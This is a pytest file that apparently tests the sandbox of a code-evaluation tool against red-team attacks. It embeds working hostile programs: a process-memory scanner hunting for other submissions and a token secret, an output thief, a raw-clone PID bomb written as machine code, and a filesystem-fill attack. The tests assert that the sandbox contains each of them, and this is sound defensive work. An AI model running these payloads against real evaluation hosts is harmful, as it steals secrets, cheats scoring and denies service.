        metrics = evaluate(world["data"], "H-horizontal", "test", replies, timeout=1.0, workers=2, explain=True)
    finally:
        patch.undo()
    seconds = time.perf_counter() - started
    time.sleep(0.2)
    connections = 0
    for listening in (server, abstract):
        while True:
            try:
                listening.accept()[0].close()
                connections += 1
            except BlockingIOError:
                break
        listening.close()
    after = {"files": _snapshot(world["victims"], world["home"], world["data"]), "prefix": _prefix_files(),
             "servers": _servers(), "written": _remove_probes()}
    scores = {f["model"]: f for f in metrics["functions"] if f["id"] == world["row"]["id"]}
    return {"metrics": metrics, "scores": scores, "before": before, "after": after, "connections": connections,
            "seconds": seconds, "left": sorted(set(_descendants()) - before["descendants"])}


@pytest.mark.parametrize("name", list(ATTACKS))
def test_each_attack_is_stopped_by_the_sandbox(attacked, name):
    score = attacked["scores"][name]
    assert score["errors"] == 0, (name, score["failures"], attacked["metrics"]["explanations"].get(f"{name} / "
                                                                                                   f"{score['id']}"))


@pytest.mark.parametrize("name", list(BOMBS))
def test_each_bomb_fails_alone(attacked, name):
    score, allowed = attacked["scores"][name], BOMBS[name][1]
    own = {"time limit", "wall-clock limit", "sandbox failure"} if allowed is None else set()
    assert score["errors"] == 16 and not set(score["failures"]) & own, (name, score["failures"])
    assert allowed is None or set(score["failures"]) <= allowed, (name, score["failures"])


def test_nothing_outside_the_sandbox_changed(attacked):
    assert attacked["after"]["files"] == attacked["before"]["files"]      # victims, home, dataset
    assert attacked["after"]["prefix"] == attacked["before"]["prefix"]    # the Python installation
    assert attacked["after"]["written"] == []                             # nothing beside the scratch
    assert attacked["connections"] == 0                                   # the listeners heard nothing


def test_honest_replies_score_as_if_alone(attacked):
    honest = [f for model, f in attacked["scores"].items() if model.startswith("honest")]
    assert len(honest) == len(ATTACKS) + len(BOMBS) + 1
    assert all((f["errors"], f["l_plus"], f["c"]) == (0, 40, 100.0) for f in honest), \
        [(f["model"], f["failures"]) for f in honest if f["errors"]]
    assert attacked["scores"]["wrong"]["errors"] == 16  # the targets were not rewritten


def test_no_secret_leaves_and_nothing_is_left_running(attacked):
    text = json.dumps(attacked["metrics"])
    assert SECRET not in text and HOME_TOKEN not in text and "\x1b" not in text
    assert attacked["after"]["servers"] == [] and attacked["left"] == []
    assert attacked["seconds"] < 120


def test_untrusted_text_costs_bounded_time(world, tmp_path):
    """The red team's 1 MB reply (276 s of code extraction) and 925 KB program (33 s of analysis), and
    the worst shapes under the caps, are scored fast: the long ones as ``too long``."""
    from cogen.families.programs.analysis import analyze
    from cogen.families.programs.code import MAX_PROGRAM, extract_code

    chain = "v0 = 'A'\n" + "".join(f"v{k} = 'A' + " + " + ".join(f"v{j}" for j in range(k)) + "\n" for k in range(1, 440))
    below = "v0 = 'A'\n" + "".join(f"v{k} = 'A' + " + " + ".join(f"v{j}" for j in range(k)) + "\n"
                                   for k in range(1, 140))[: MAX_PROGRAM - 100]
    below = below[: below.rindex("\n") + 1]
    cases = {"1 MB reply": ("x = [\n" + "1,\n" * 333_000, "too long: a reply"),
             "440-line chain program": (f"```python\n{chain}```", "too long: a reply"),
             "99 KB reply": ("x = [\n" + "1,\n" * 33_000, "syntax error, line 1: '[' was never closed"),
             "99 KB program": (f"```python\n{below}```", None)}
    for name, (reply, outcome) in cases.items():
        started = time.process_time()
        code, reason = extract_code(reply)
        analysis = analyze(code) if code else None
        spent = time.process_time() - started
        assert spent < 5, (name, spent)
        found = reason or analysis.error
        assert (found or "").startswith(outcome or "") and (outcome is not None or found is None), (name, found)


def test_the_cli_shows_no_traceback_and_no_escape_sequence(world, tmp_path):
    require_isolation()
    row = world["row"]
    replies = tmp_path / "r.jsonl"
    records = [{"id": row["id"], "model": "\x1b[31mred\x1b[0m", "reply": "def f(s):\n    raise ValueError('\\x1b[2J')\n"},
               {"id": row["id"], "model": "huge", "reply": "x = [\n" + "1,\n" * 333_000},
               {"id": "\x1b]0;title\x07", "model": "odd id", "reply": "def f(s): return 1"},
               {"id": row["id"], "model": "killer", "reply": _program(world, 1, replies, ATTACKS["channel: worker killer"])}]
    replies.write_text("".join(json.dumps(r) + "\n" for r in records))
    done = subprocess.run([sys.executable, "-m", "cogen", "eval", "-d", str(world["data"]), "-c", "H-horizontal",
                           "-s", "test", "-p", str(replies), "--explain", "--timeout", "1"],
                          capture_output=True, text=True, env={**os.environ, "COLUMNS": "300"})
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stdout + done.stderr and "\x1b" not in done.stdout + done.stderr
    assert "too long: a reply of 999,006 characters" in done.stdout and "?[2J" in done.stdout


def test_without_confinement_the_attacks_get_through(world, tmp_path, listener):
    """The suite's own mutation check: attacks on the test's own files and on the scorer's secrets, run
    with --unsafe-run-untrusted-code (no namespaces, no read-only files), get through and are seen."""
    port, _ = listener
    victims, home = _victims(tmp_path)
    mine = {**world, "victims": victims, "home": home, "data": tmp_path / "no-data"}
    chosen = {name: ATTACKS[name] for name in ("files: delete", "proc: the scorer's environment")}
    replies = tmp_path / "r.jsonl"
    replies.write_text("".join(json.dumps(r) + "\n" for r in _records(mine, port, replies, chosen)))
    patch = pytest.MonkeyPatch()
    patch.setenv("HF_TOKEN", SECRET)
    try:
        metrics = evaluate(world["data"], "H-horizontal", "test", replies, timeout=1.0, workers=1, unsafe=True,
                           explain=True)
    finally:
        patch.undo()
    scores = {f["model"]: f for f in metrics["functions"]}
    assert all(scores[name]["errors"] == 16 for name in chosen)  # each got through, and says so
    assert "GOT environ" in json.dumps(metrics["explanations"])
    assert not (victims / "precious.txt").exists() and not (home / "notes.txt").exists()


# ---------------------------------------------------------------- one reply never reads another (X01-X06, S05)
#: The review's memory scan: every readable page near the heap and the interpreter's objects, read through a
#: pipe (``write`` from an address fails instead of faulting), as runs of contiguous pages.
MEMORY = r'''
import ctypes, gc, itertools, json, os, re, sys
_L = ctypes.CDLL(None, use_errno=True)
_L.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
_L.write.restype = ctypes.c_ssize_t
_L.mincore.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_void_p]
_L.sbrk.restype = ctypes.c_void_p
def memory(span=64 << 20):
    r, w = os.pipe()
    os.set_blocking(r, False)
    v = ctypes.create_string_buffer(1)
    anchors = sorted({_L.sbrk(0) & ~4095, *(id(o) & ~4095 for o in (sys.stdin, sys.modules, gc, re, ctypes, os))})
    done = set()
    for anchor in anchors:
        a, run = max(4096, anchor - span), []
        while a <= anchor + span:
            if a not in done and _L.mincore(a, 4096, v) == 0 and _L.write(w, a, 4096) == 4096:
                done.add(a)
                run.append(os.read(r, 4096))
            elif run:
                yield b"".join(run)
                run = []
            a += 4096
        if run:
            yield b"".join(run)
'''
#: A reply that carries a marker in its source and its scratch (the review's X05), and the scorer's token.
MARK_TAIL = "7f3a9c"
MARKER_REPLY = ("#" + "x" * 3000 + "\n# COGEN-REPLY-MARK-" + MARK_TAIL + "\nSECRET = 'COGEN-REPLY-MARK-" + MARK_TAIL
                + "'\nopen('cogen-mark', 'w').write(SECRET)\ntry:\n    open('/usr/share/cogen-mark', 'w').write(SECRET)\n"
                "except OSError:\n    pass\n{rows}\ndef f(s):\n    return '\\n'.join(ROWS[c] for c in s)\n")
#: Looks for the marker (and the scorer's token) in its own memory (X02, S05: the inherited heap, read
#: through a pipe so that no unmapped page faults), its frames (X01) and every visible file (X03, X04),
#: with needles built at run time so that its own text never matches; answers right only when it finds
#: nothing.
SEEKER = MEMORY + r'''
NEEDLES = [(("REPLY-" + "MARK-").encode(), bytes([55, 102, 51, 97, 57, 99])),       # the marker reply
           (("SECRET" + "TOK").encode(), bytes([69, 78, 48, 49, 50, 51]))]          # the scorer's HF_TOKEN
def hits(block):
    return [i for needle, tail in NEEDLES for m in re.finditer(re.escape(needle), block)
            if block[m.end():m.end() + len(tail)] == tail]
FOUND = []
for block in memory():
    if hits(block):
        FOUND.append("memory")
        break
frame = sys._getframe()
while frame is not None:
    if hits(repr(dict(frame.f_locals)).encode("utf-8", "replace")):
        FOUND.append("frame " + frame.f_code.co_name)
    frame = frame.f_back
for root, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if os.path.join(root, f) not in ("/proc", "/sys", "/usr/lib", "/lib")]
    if "cogen-mark" in files:
        FOUND.append("file " + os.path.join(root, "cogen-mark"))
    if len(FOUND) > 3:
        break
try:
    open("/usr/share/cogen-seek", "w")
    FOUND.append("wrote /usr/share")
except OSError:
    pass
{rows}
def f(s):
    if FOUND:
        raise RuntimeError("FOUND " + " ".join(FOUND))
    return "\n".join(ROWS[c] for c in s)
'''


def _score_replies(world, tmp_path, records: list[dict], workers: int, timeout: float = 3.0) -> dict:
    replies = tmp_path / f"replies-{len(records)}-{workers}.jsonl"
    replies.write_text("".join(json.dumps(r) + "\n" for r in records))
    patch = pytest.MonkeyPatch()
    patch.setenv("HF_TOKEN", SECRET)
    try:
        metrics = evaluate(world["data"], "H-horizontal", "test", replies, timeout=timeout, workers=workers, explain=True)
    finally:
        patch.undo()
    return metrics


@pytest.mark.parametrize("workers", [1, 2])
def test_no_program_finds_an_earlier_reply_in_its_memory_frames_or_files(world, tmp_path, workers):
    """X01, X02, X03, X04, S05: the marker reply runs before every seeker, on every worker."""
    require_isolation()
    rows = _rows(world["row"])
    records = []
    for k in range(3):
        records += [{"id": world["row"]["id"], "model": f"marker {k}", "reply": MARKER_REPLY.replace("{rows}", rows)},
                    {"id": world["row"]["id"], "model": f"seeker {k}", "reply": SEEKER.replace("{rows}", rows)}]
    metrics = _score_replies(world, tmp_path, records, workers)
    scores = {f["model"]: f for f in metrics["functions"]}
    assert all(scores[f"marker {k}"]["errors"] == 0 for k in range(3))
    for k in range(3):
        assert scores[f"seeker {k}"]["errors"] == 0, metrics["explanations"][f"seeker {k} / {world['row']['id']}"]


#: The review's thief (X06): no program of its own; it collects outputs of earlier replies (frames, the
#: inherited memory, loot it leaves in every writable place) and answers with the set whose first grid
#: is its function's (the fingerprint its prompt shows), else that first grid for every input.
THIEF = MEMORY + r'''
FP = FINGERPRINT
CELLS = rb'"[.*]{16}"'
found = []
frame = sys._getframe()
while frame is not None:
    for value in list(frame.f_locals.values()):
        if isinstance(value, dict) and isinstance(value.get("outputs"), list):
            found.append(value["outputs"])
    frame = frame.f_back
for block in memory():
    for match in re.findall(rb'\[(?:' + CELLS + rb', ){15}' + CELLS + rb'\]', block):
        found.append(json.loads(match))
for folder in ("/usr/share", "/", "/etc", os.getcwd()):
    try:
        with open(folder + "/.cogen-loot", "a") as handle:
            handle.writelines(json.dumps(o) + "\n" for o in found)
    except OSError:
        pass
    try:
        found += [json.loads(line) for line in open(folder + "/.cogen-loot")]
    except OSError:
        pass
MINE = next((o for o in found if o and o[0] == FP and None not in o), None)
ORDER = ["".join(p) for p in itertools.product("AB", "CD", "EF", "GH")]
def f(s):
    cells = MINE[ORDER.index(s)] if MINE else FP
    return "\n".join(cells[r * 4:(r + 1) * 4] for r in range(4))
'''


def test_the_thief_scores_the_same_alone_and_beside_other_replies(world, tmp_path):
    """X06, with 1 and 2 workers: the thief's score is a function of its reply alone."""
    require_isolation()
    row, rows = world["row"], _rows(world["row"])
    thief = THIEF.replace("FINGERPRINT", repr(row["outputs"][0].replace("\n", "")))
    honest = rows + '\ndef f(s):\n    return "\\n".join(ROWS[c] for c in s)\n'
    alone = [{"id": row["id"], "model": "thief 0", "reply": thief}]
    beside = [record for k in range(3) for record in (
        {"id": row["id"], "model": f"honest {k}", "reply": honest},
        {"id": row["id"], "model": f"marker {k}", "reply": MARKER_REPLY.replace("{rows}", rows)},
        {"id": row["id"], "model": f"thief {k}", "reply": thief})]
    seen = {}
    for workers in (1, 2):
        for name, records in (("alone", alone), ("beside", beside)):
            metrics = _score_replies(world, tmp_path, records, workers)
            for f in metrics["functions"]:
                if f["model"].startswith("thief"):
                    seen[(workers, name, f["model"])] = (f["errors"], f["c"])
    assert len(set(seen.values())) == 1, seen
    assert next(iter(seen.values()))[0] == 15  # only the fingerprint's own sample is right: nothing was stolen


# ---------------------------------------------------------------- the scratch (E11, E12)
def test_a_virtual_environment_under_tmp_stays_visible(tmp_path, monkeypatch):
    """E11: packages under /tmp still import: site-packages folders are bound at /cogen-sites, never where
    the scratch goes (the scratch's own placement is test_sandbox's test)."""
    require_isolation()
    from cogen.families.programs.functions import INPUTS
    from cogen.sandbox import Sandbox, isolation

    site = tmp_path / "venv" / "site-packages"
    site.mkdir(parents=True)
    (site / "cogen_e11_probe.py").write_text("ROW = '*..*'\n")
    real = isolation.python_paths()
    assert str(tmp_path).startswith("/tmp/")
    paths = lambda: (real[0], real[1], (*real[2], str(site)))  # noqa: E731
    monkeypatch.setattr(isolation, "python_paths", paths)
    monkeypatch.setattr(sandbox_module, "python_paths", paths)
    program = ("import cogen_e11_probe, numpy, os\ndef f(s):\n    open('written', 'w').write(s)\n"
               "    return [cogen_e11_probe.ROW] * 4\n")
    with Sandbox(workers=1) as box:
        assert box.isolation.site_paths()[-1].startswith("/cogen-sites/")
        result, = box.run([program], INPUTS)
    assert result.outputs == ("*..*" * 4,) * 16, result.reasons[0]


def test_what_a_program_leaves_behind_is_gone_for_the_next(world):
    """E12: locked folders, a link out, 1,199 nested folders: the next program sees an empty scratch."""
    require_isolation()
    from cogen.families.programs.functions import INPUTS
    from cogen.sandbox import Sandbox

    litter = ("import os\nos.makedirs('locked/inner')\nopen('locked/inner/f', 'w').write('x')\nos.chmod('locked/inner', 0)\n"
              "os.chmod('locked', 0o100)\nos.symlink('/usr', 'out')\nos.symlink('/nowhere', 'dangling')\n"
              "start = os.getcwd()\nfor k in range(1199):\n    os.mkdir('d')\n    os.chdir('d')\n"
              "open('deepest', 'w').write('x')\nos.chdir(start)\ndef f(s):\n    return ['....'] * 4\n")
    look = "import os\nLEFT = os.listdir('.')\ndef f(s):\n    return ['....'] * 4 if not LEFT else ['****'] * 4\n"
    with Sandbox(workers=1, timeout=2.0) as box:
        first, second, third = box.run([litter, look, look], INPUTS)
    assert first.fate == "ok" and first.outputs == ("." * 16,) * 16, (first.fate, first.reasons[0])
    assert second.outputs == ("." * 16,) * 16 == third.outputs, second.outputs[0]


# ---------------------------------------------------------------- denial of service, in a limited cgroup (R07, R08)
#: R07: raw-clone threads until refused, then grab every freed pid for 3 s; and a reply that sleeps 1 s.
PID_BOMB = r'''
import ctypes, mmap, os, platform, time
made = refused = 0
if platform.machine() == "x86_64":
    code = bytes.fromhex("4989f9b838000000bf000f05004c89ce31d24531d24531c00f054885c07401c3b8220000000f05ebf7")
    buffer = mmap.mmap(-1, 8192, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    buffer.write(code)
    base = ctypes.addressof(ctypes.c_char.from_buffer(buffer))
    spawn = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_void_p)(base)
    deadline = time.monotonic() + 3
    while made < 40000 and time.monotonic() < deadline:
        if spawn(base + 8192 - 64) < 0:
            refused += 1
            time.sleep(0.0005)
        else:
            made += 1
def f(s):
    return "\n".join(ROWS[c] for c in s) if not made else ["****"] * 4
'''
#: R08: 400 MB into the sandbox's root (outside the scratch), six times.
TMPFS_FILL = r'''
import os, time
folder = "/usr/share/cogen-fill-%d" % time.monotonic_ns()
try:
    os.makedirs(folder)
    block = b"\xa5" * (1 << 20)
    for n in range(400):
        with open("%s/%04d" % (folder, n), "wb") as handle:
            handle.write(block)
except OSError:
    pass
def f(s):
    return "\n".join(ROWS[c] for c in s) if not os.path.isdir(folder) else ["****"] * 4
'''


def _cli_scores(world, tmp_path, records: list[dict], cgroup: Path, name: str) -> tuple[subprocess.CompletedProcess, dict]:
    """``cogen eval programs`` of ``records`` inside ``cgroup``: the process and its JSON report (or {})."""
    from sandbox_support import in_cgroup

    replies, report = tmp_path / f"{name}.jsonl", tmp_path / f"{name}.json"
    replies.write_text("".join(json.dumps(r) + "\n" for r in records))
    command = [sys.executable, "-m", "cogen", "eval", "programs", "-d", str(world["data"]), "-p", str(replies),
               "--workers", "2", "--timeout", "1", "--json-out", str(report)]
    done = subprocess.run(in_cgroup(cgroup, command), capture_output=True, text=True, timeout=300)
    scores = {}
    if report.is_file():
        scores = {f["model"]: f for f in json.loads(report.read_text())["configs"]["H-horizontal"]["functions"]}
    return done, scores


def _honest_records(world, count: int) -> list[dict]:
    honest = _rows(world["row"]) + '\ndef f(s):\n    return "\\n".join(ROWS[c] for c in s)\n'
    return [{"id": world["row"]["id"], "model": f"honest {k}", "reply": honest} for k in range(count)]


def test_a_pid_bomb_in_a_pids_cgroup_moves_no_honest_score(world, tmp_path):
    """R07: the scorer inside a small pids cgroup (a container's limit); the bomb, a slow reply and 30
    honest replies: exit 0, a report, every honest score as in the control run without the bomb."""
    require_isolation()
    from sandbox_support import limited_cgroup

    with limited_cgroup("pids", "120") as cgroup:
        control, alone = _cli_scores(world, tmp_path, _honest_records(world, 30), cgroup, "control")
        records = [{"id": world["row"]["id"], "model": "bomb", "reply": _rows(world["row"]) + PID_BOMB},
                   {"id": world["row"]["id"], "model": "slow", "reply": "import time\ntime.sleep(1)\n"
                                                                         "def f(s):\n    return ['....'] * 4\n"},
                   *_honest_records(world, 30)]
        bombed, scores = _cli_scores(world, tmp_path, records, cgroup, "bombed")
    assert control.returncode == 0 and bombed.returncode == 0, (control.stderr, bombed.stderr)
    assert "Traceback" not in bombed.stderr
    honest = {model: (f["errors"], f["c"]) for model, f in scores.items() if model.startswith("honest")}
    assert honest == {model: (f["errors"], f["c"]) for model, f in alone.items()} and len(honest) == 30
    assert set(honest.values()) == {(0, 100.0)}
    assert scores["bomb"]["errors"] == 0  # it answers wrong if it made a thread: it made none


def test_a_root_file_system_fill_in_a_memory_cgroup_moves_no_honest_score(world, tmp_path):
    """R08: the scorer inside a 1,200 MB memory cgroup; six replies each try to write 400 MB outside the
    scratch (2.4 GB, which killed the scorer before), beside 18 honest replies: exit 0 and a report."""
    require_isolation()
    from sandbox_support import limited_cgroup

    records = [{"id": world["row"]["id"], "model": f"fill {k}", "reply": _rows(world["row"]) + TMPFS_FILL}
               for k in range(6)]
    records += _honest_records(world, 18)
    with limited_cgroup("memory", str(1200 << 20)) as cgroup:
        done, scores = _cli_scores(world, tmp_path, records, cgroup, "filled")
    assert done.returncode == 0, done.stderr
    assert all(scores[f"honest {k}"]["errors"] == 0 for k in range(18))
    assert all(scores[f"fill {k}"]["errors"] == 0 for k in range(6))  # it answers wrong if it wrote: it could not


#: A library run inside a pids cgroup: a worker dies, the cgroup is then full (no fork can succeed), so
#: the restart fails after its back-off: that job alone is a sandbox failure; the limit is lifted and
#: the run goes on.
STARVED = r'''
import json, os, signal, sys, time
from cogen.families.programs.functions import INPUTS
from cogen.sandbox import Sandbox
folder, program = sys.argv[1], "def f(s):\n    return ['....'] * 4\n"
def limit(value):
    with open(folder + "/pids.max", "w") as handle:
        handle.write(value)
with Sandbox(workers=1, timeout=1.0) as box:
    before = box.run([program], INPUTS)[0]
    worker = box._all[0]
    os.killpg(worker.process.pid, signal.SIGKILL)
    worker.process.wait()
    time.sleep(0.5)  # what the kill ended is reaped
    limit(open(folder + "/pids.current").read().strip())
    started = time.monotonic()
    starved = box.run([program], INPUTS)[0]
    waited = time.monotonic() - started
    limit("max")
    after = box.run([program, program], INPUTS)
print(json.dumps({"before": before.reasons[0] or before.outputs[0], "starved": starved.reasons[0],
                  "waited": waited, "after": [r.outputs[0] for r in after]}))
'''


def test_a_refused_fork_costs_one_job_and_the_run_goes_on(tmp_path):
    """R07's second half: ``BlockingIOError`` from a full process table no longer ends the run."""
    require_isolation()
    from sandbox_support import in_cgroup, limited_cgroup

    script = tmp_path / "starved.py"
    script.write_text(STARVED)
    with limited_cgroup("pids", "max") as cgroup:
        done = subprocess.run(in_cgroup(cgroup, [sys.executable, str(script), str(cgroup)]), capture_output=True,
                              text=True, timeout=120, env={**os.environ, "PYTHONPATH": str(REPO)})
    assert done.returncode == 0, done.stderr
    outcome = json.loads(done.stdout.strip().splitlines()[-1])
    assert outcome["before"] == "." * 16 and outcome["starved"] == "sandbox failure"
    assert outcome["waited"] >= sum(sandbox_module.RESTART_DELAYS)  # it tried again, with a back-off
    assert outcome["after"] == ["." * 16, "." * 16]


# ---------------------------------------------------------------- degradation (D03, D05)
def _refusal(world, tmp_path, wrapper: list[str]) -> subprocess.CompletedProcess:
    replies = tmp_path / "one.jsonl"
    replies.write_text(json.dumps(_honest_records(world, 1)[0]) + "\n")
    env = {k: v for k, v in os.environ.items() if k != "COGEN_UNSAFE_RUN_UNTRUSTED_CODE"}
    command = [sys.executable, "-m", "cogen", "eval", "programs", "-d", str(world["data"]), "-p", str(replies),
               "--workers", "1"]
    return subprocess.run([*wrapper, *command], capture_output=True, text=True, env=env, timeout=120)


def _runs(command: list[str]) -> bool:
    try:
        return subprocess.run(command, capture_output=True, timeout=30).returncode == 0
    except (OSError, subprocess.SubprocessError):
        return False


def test_disabled_user_namespaces_are_refused_in_one_line(world, tmp_path):
    """D03: ``user.max_user_namespaces = 0`` (in a child user namespace): exit 1, one line, no report."""
    require_isolation()
    if not _runs(["unshare", "--user", "--map-root-user", "true"]):
        pytest.skip("unshare --user is not available here")
    done = _refusal(world, tmp_path, ["unshare", "--user", "--map-root-user", "sh", "-c",
                                      'echo 0 > /proc/sys/user/max_user_namespaces && exec "$@"', "sh"])
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert done.stderr.startswith("error: cogen refuses to run untrusted programs without isolation: bubblewrap "
                                  "could not start the sandbox"), done.stderr
    assert len(done.stderr.strip().splitlines()) <= 3


def test_a_hidden_libseccomp_is_refused_in_one_line(world, tmp_path):
    """D05: libseccomp replaced by /dev/null (a bind mount in a private mount namespace)."""
    require_isolation()
    import ctypes.util

    from cogen.sandbox import seccomp

    library = seccomp._library()._name
    path = library if library.startswith("/") else next(
        (str(p) for folder in ("/usr/lib", "/lib", "/usr/lib64", "/lib64")
         for p in Path(folder).rglob(ctypes.util.find_library("seccomp") or "libseccomp.so.2")), None)
    if path is None or os.geteuid() != 0 or not _runs(["unshare", "--mount", "true"]):
        pytest.skip("hiding a library needs root and unshare --mount")
    done = _refusal(world, tmp_path, ["unshare", "--mount", "sh", "-c",
                                      f'mount --bind /dev/null "{path}" && exec "$@"', "sh"])
    assert done.returncode == 1 and "Traceback" not in done.stderr, done.stderr
    assert "no seccomp filter: libseccomp is not installed" in done.stderr


# ---------------------------------------------------------------- the second review's table, rerun
_HERE = "test_sandbox_hostile"
#: Every attack of the second red team (sandbox-redteam-2.md; X05 is its marker reply, not an attack)
#: and the tests that run it here: ``ATTACKS:<name>`` and ``BOMBS:<name>`` run in the ``attacked``
#: evaluation; ``<module>::<test>`` are tests of their own.
REVIEW_2 = {
    "E01": ["ATTACKS:E01: inherited descriptors"], "E02": ["ATTACKS:E02: /proc, mount, chroot"],
    "E03": ["ATTACKS:E03: /dev"], "E04": ["ATTACKS:E04: write outside the scratch"],
    "E05": ["ATTACKS:E05: system-call sweep"], "E06": ["BOMBS:E06: x32 fork from shellcode"],
    "E07": ["ATTACKS:E07: raw clone of a process"], "E08": ["ATTACKS:E08: signal the server through fcntl"],
    "E09": ["ATTACKS:E09: signal itself through fcntl"], "E10": ["ATTACKS:E10: network, abstract socket, interfaces"],
    "E11": [f"{_HERE}::test_a_virtual_environment_under_tmp_stays_visible"],
    "E12": [f"{_HERE}::test_what_a_program_leaves_behind_is_gone_for_the_next"],
    "E13": ["BOMBS:E13: i386 fork through int 0x80"],
    "P01": ["BOMBS:P01: the server's nonce and forged answers"], "P02": ["ATTACKS:P02: junk on the result pipe"],
    "P03": ["BOMBS:P03: exceptions dressed as time limits"], "P04": ["ATTACKS:P04: a superscript index"],
    "P05": ["ATTACKS:P05: a 5,000-digit index"], "P06": ["BOMBS:P06: the result pipe closed"],
    "P07": ["BOMBS:P07: hostile return values"], "P08": ["BOMBS:P08: the runner's builtins replaced"],
    "P09": ["BOMBS:P09: exception text as a weapon"],
    "X01": [f"{_HERE}::test_no_program_finds_an_earlier_reply_in_its_memory_frames_or_files"],
    "X02": [f"{_HERE}::test_no_program_finds_an_earlier_reply_in_its_memory_frames_or_files"],
    "X03": [f"{_HERE}::test_no_program_finds_an_earlier_reply_in_its_memory_frames_or_files",
            "ATTACKS:E04: write outside the scratch"],
    "X04": [f"{_HERE}::test_no_program_finds_an_earlier_reply_in_its_memory_frames_or_files"],
    "X06": [f"{_HERE}::test_the_thief_scores_the_same_alone_and_beside_other_replies"],
    "R01": ["ATTACKS:R01: 400 MB beside the scratch"], "R02": ["ATTACKS:R02: 3,000 threads by raw clone"],
    "R03": ["BOMBS:R03: Python threads with small stacks"], "R04": ["BOMBS:R04: an inode bomb"],
    "R05": ["ATTACKS:R05: 30 pipes of 1 MB"], "R06": ["BOMBS:R06: 64 spinning threads"],
    "R07": [f"{_HERE}::test_a_pid_bomb_in_a_pids_cgroup_moves_no_honest_score",
            f"{_HERE}::test_a_refused_fork_costs_one_job_and_the_run_goes_on",
            "test_sandbox::test_a_worker_that_will_not_restart_costs_its_job_alone"],
    "R08": [f"{_HERE}::test_a_root_file_system_fill_in_a_memory_cgroup_moves_no_honest_score"],
    "S01": ["ATTACKS:S01: environment, argv, home"], "S02": ["ATTACKS:S02: the home's token and keys, /root, /etc, /home"],
    "S03": ["ATTACKS:S03: the working folder, the data, the replies, the checkout"],
    "S04": ["ATTACKS:S04: secret-looking names on the visible file system"],
    "S05": [f"{_HERE}::test_no_program_finds_an_earlier_reply_in_its_memory_frames_or_files"],
    "A01": ["test_programs_fidelity::test_a01_a_table_hidden_in_an_integer_counts_its_bits"],
    "A02": ["test_programs_fidelity::test_a02_a_program_run_from_a_hex_string_is_obfuscated"],
    "D01": ["test_sandbox::test_no_isolation_is_refused_in_one_line"],
    "D02": ["test_sandbox::test_no_isolation_is_refused_in_one_line",
            "test_sandbox::test_the_cli_refuses_without_isolation_and_runs_when_told_to"],
    "D03": [f"{_HERE}::test_disabled_user_namespaces_are_refused_in_one_line"],
    "D04": ["test_sandbox::test_unconfined_runs_are_never_silent"],
    "D05": [f"{_HERE}::test_a_hidden_libseccomp_is_refused_in_one_line"],
}
#: Attacks that speak x86-64 machine code: elsewhere they are left out (and say so).
_X86_ONLY = {"E05", "E06", "E13", "R02"}


def test_every_attack_of_the_second_review_has_a_test():
    import importlib

    assert len(REVIEW_2) == 47 and "X05" not in REVIEW_2
    for attack, tests in REVIEW_2.items():
        for test in tests:
            if test.startswith(("ATTACKS:", "BOMBS:")):
                table, name = test.split(":", 1)
                known = ATTACKS if table == "ATTACKS" else BOMBS
                assert name in known or (attack in _X86_ONLY and platform.machine() != "x86_64"), (attack, test)
            else:
                module, function = test.split("::")
                assert callable(getattr(importlib.import_module(module), function, None)), (attack, test)
